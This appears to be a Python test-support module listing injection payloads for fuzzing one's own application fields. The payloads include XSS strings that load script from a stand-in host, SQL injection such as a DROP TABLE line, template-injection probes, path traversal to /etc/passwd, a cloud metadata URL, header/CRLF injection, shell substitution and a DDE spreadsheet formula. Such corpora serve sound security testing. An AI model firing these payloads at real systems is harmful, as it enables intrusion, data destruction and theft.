"""Texts that break what is put together from text. Every one carries the mark ``zq`` where it could show effect.

Markup would make an element or attribute named zq…, a template or format would compute PRODUCT, a header would be X-Zq.
"""

import random

PRODUCT = "1343433"  # 7 * 191919: nothing writes it but something that calculates
LEAKS = (
    PRODUCT,
    "<class '",
    "Traceback (most recent call last)",
    "sqlalchemy.",
    "[SQL:",
    "psycopg.",
    "sqlite3.",
    "jinja2.exceptions",
    "werkzeug.exceptions",
    "/site-packages/",
)

CALL = "zqalert(1)"
HANDLERS = (
    "onload",
    "onerror",
    "onfocus autofocus",
    "onmouseover",
    "ontoggle open",
    "onanimationstart",
    "onpointerenter",
)
ELEMENTS = (
    "img src=zq",
    "svg",
    "body",
    "video src=zq",
    "details",
    "input",
    "iframe srcdoc=zq",
    "math",
    "zqel",
    "a href=//zq.example",
)
QUOTES = ('">', "'>", "</textarea>", "</title>", "</script>", "</option></select>", "-->", "]]>", "</svg>", '"/>', "`>")

MARKUP = [
    *(f"{quote}<zqel zqattr=1>" for quote in QUOTES),
    *(f"<{element} {handler}={CALL}>" for element, handler in zip(ELEMENTS * 2, HANDLERS * 2, strict=False)),
    *(f'zq" {handler}="{CALL}' for handler in HANDLERS),
    *(f"zq' {handler}='{CALL}" for handler in HANDLERS[:3]),
    f"<script>{CALL}</script>",
    f"<ScRiPt/zq>{CALL}</sCrIpT>",
    f"<scr<script>ipt>{CALL}</scr</script>ipt>",
    f"<<script>{CALL}//<</script>",
    "<script src=//zq.example/zq.js></script>",
    '<link rel=stylesheet href="//zq.example">',
    "<style>@import'//zq.example'</style>",
    "<base href=//zq.example/>",
    '<meta http-equiv=refresh content="0;url=//zq.example">',
    "<form action=//zq.example><button>zq</button>",
    "<object data=//zq.example></object>",
    "<!--zq",
    "<![CDATA[<zqel>]]>",
    "&lt;zqel&gt;",
    "&#60;zqel&#62;",
    "&zqel",
    "\\u003czqel\\u003e",
    "%3Czqel%3E",
    "＜zqel＞",
    "ʺ＞zq",
    "zq<",
    "<zq",
]
ADDRESSES = [
    f"javascript:{CALL}",
    f"JaVaScRiPt:{CALL}",
    f"java\tscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    f"vbscript:{CALL}",
    "//zq.example",
    "https://zq.example/",
    "https://kpu.go.id@zq.example/",
    "file:///etc/passwd",
    "http://169.254.169.254/zq",
    "../../../../etc/passwd",
    "..\\..\\zq",
    "/zq\x00.png",
    "\\\\zq.example\\c$",
]
TEMPLATES = [
    "{{7*191919}}",
    "{%print(7*191919)%}",
    "{{config}}",
    "{{''.__class__}}",
    "${7*191919}",
    "#{7*191919}",
    "<%=7*191919%>",
    "${{7*191919}}",
    "{{{7*191919}}}",
    "#(7*191919)",
    '#eval("7*191919")',
    "#import zq",
    "$7*191919$",
    "@zq <zq>",
    "`zq`",
    "*zq* _zq_",
    "\\input{/etc/passwd}",
]
FORMATS = [
    "%(x)s",
    "%s%s%s%n",
    "%(password)d",
    "100%",
    "%",
    "{0.__class__}",
    "{}",
    "{x}",
    "{0!r:>99999999}",
    "$(zq)",
    "`id`",
    "; zq",
    "| zq",
    "$zq",
    "\\1\\g<0>",
]
QUERIES = [
    "' OR 1=1 --",
    "'; DROP TABLE event; --",
    '" OR ""="',
    "') UNION SELECT 1,2,3 --",
    "\\' OR 1 --",
    "%' AND '%'='",
    "_%_%",
    "1; SELECT pg_sleep(9)",
    ":zq",
    "?",
    "$1",
    "NULL",
]
LINES = [
    "zq\r\nX-Zq: 1",
    "zq\nX-Zq: 1",
    "zq\rX-Zq: 1",
    "zq\r\n\r\n<zqel>",
    "zq\u2028X-Zq: 1",
    "zq\u0085X-Zq: 1",
    "zq\r\nBcc: orang@zq.example",
    "zq\r\nEND:VEVENT\r\nX-ZQ:1",
    "zq;X-ZQ=1:mailto",
    "zq\\nX-ZQ:1",
    '"; filename="zq.exe',
    "%0d%0aX-Zq:1",
]
LETTERS = [
    "zq\x00zq",
    "\x00",
    "zq\x1b[31m",
    "zq\x08\x7f",
    b"zq\xff\xfe",
    b"zq\xed\xa0\x80",
    b"\xc0\xbczqel\xc0\xbe",
    b"zq%ff%00",
    "\u202ezq\u202c",
    "zq\u200b\u200d\ufeff",
    "zq\ufffe\uffff",
    "\U000e0001zq",
    "zq" + "\u0301" * 400,
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
    "محمد بن عبد الله",
    "ꦲꦤꦕꦫꦏ",
    "ﷺ" * 50,
    "ZQ ａｂｃ ①②",
    "İıſß",
    "O'Brien, S.T., M.Eng.",
    "a",
    "  zq  \t zq  ",
]
SHEETS = [
    "=1+zq",
    "+1+zq",
    "-1+zq",
    "@SUM(zq)",
    "\t=zq",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("//zq.example")',
    "＝zq",
    "'=zq",
]
SIZES = ["zq" * 100, "z" * 201, "zq" * 5000, "z " * 5000, "<zqel>" * 1000, "9" * 5000]
VALUES = [
    "__proto__",
    "constructor",
    "null",
    "undefined",
    "NaN",
    "Infinity",
    "-1",
    "0",
    "1e309",
    "9999999999999999999",
    "0x41",
    "١٢٣",
    "true",
    "[]",
    "{}",
    "[object Object]",
    "2026-02-30",
    "0000-00-00",
    "99:99",
    "9999-12-31T23:59",
    "0001-01-01T00:00",
    "00000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    "",
]
ALL: list[str | bytes] = [
    *MARKUP, *ADDRESSES, *TEMPLATES, *FORMATS, *QUERIES, *LINES, *LETTERS, *SHEETS, *SIZES, *VALUES
]  # fmt: skip


def sample(name: str, count: int) -> list[str | bytes]:
    """Return ``count`` payloads for a field, always the same for its name; every kind is among the fields together."""
    return random.Random(name).sample(ALL, count)
